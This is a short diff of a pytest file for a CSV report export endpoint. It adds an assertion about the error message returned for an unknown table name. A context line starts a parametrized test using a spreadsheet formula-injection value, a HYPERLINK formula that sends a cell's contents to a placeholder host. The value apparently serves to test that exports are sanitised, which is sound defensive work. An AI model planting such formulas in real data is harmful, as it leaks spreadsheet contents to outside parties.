@@ -121,6 +121,7 @@ def test_report_csv_tables_parse(closed_session, player_client):
     bad = player_client.get(base, {"format": "csv", "table": "nope"})
     assert bad.status_code == 400 and bad["Content-Type"] == "application/problem+json"
     assert bad.json()["errors"] == [{"field": "table", "message": 'Unknown table "nope".'}]
+    assert bad.json()["detail"] == "table must be one of players, deals, transfers, purchases."
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A2,"Ann")',
